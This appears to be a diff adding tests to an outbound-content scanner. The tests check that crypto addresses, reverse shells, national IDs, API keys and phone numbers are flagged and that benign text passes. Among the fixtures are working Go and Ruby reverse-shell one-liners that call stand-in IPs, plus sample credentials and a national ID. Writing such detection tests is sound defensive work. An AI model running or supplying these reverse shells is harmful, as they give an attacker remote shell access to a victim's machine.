@@ -84,3 +84,30 @@ describe('outbound scan: protection switched off and disks wiped in prose (fourt
     });
   }
 });
+
+describe('outbound scan: the second blind outbound batch\'s moves, in other words (fourteenth round)', () => {
+  for (const [type, text] of [
+    ['crypto_address', 'thanks!! bc1qgd979wuhk7yhq8szqhnhj7q7vgcv099f6zpv2h'],
+    ['reverse_shell', 'package main\nimport ("net"; "os/exec")\nfunc main() { c, _ := net.Dial("tcp", "198.51.100.7:9001"); cmd := exec.Command("/bin/sh"); cmd.Stdin = c; cmd.Stdout = c; cmd.Run() }'],
+    ['reverse_shell', 'ruby -rsocket -e \'s=TCPSocket.new("198.51.100.8",8443);while(l=s.gets);IO.popen(l,"r"){|o|s.print o.read};end\''],
+    ['national_id', 'Zijn BSN is 111222333, het staat ook op de loonstrook.'],
+    ['api_key', 'Twilio is set: Account SID AC58f1e0b2c3d4e5f60718293a4b5c6d7e, Auth Token: 7d1f0c9e8b2a4d6f9e0c1b3a5d7f9e2c'],
+    ['phone_number', 'Texts go out from number: +1 415 312 6089.'],
+  ]) {
+    it(`flags ${type}: ${text!.slice(0, 50).replace(/\n/g, ' ')}...`, async () => {
+      expect(await types(text!)).to.include(type);
+    });
+  }
+  for (const text of [
+    "The form now sends to mail('hello@yourdomain.com', $subject, $body); put your own address there.",
+    'Local only: DATABASE_URL=postgres://postgres:postgres@db:5432/app in docker-compose.yml.',
+    'It crashes on Windows build 10.0.19045.4529; 10.0.22631.3880 is fine.',
+    'Invoice no. 2024-08-017, 31.5 hours, due 15 September, payable through the platform.',
+  ]) {
+    it(`passes: ${text.slice(0, 60)}...`, async () => {
+      const r = await scan(text);
+      expect(r.safe, JSON.stringify(r.flags)).to.equal(true);
+    });
+  }
+});
+
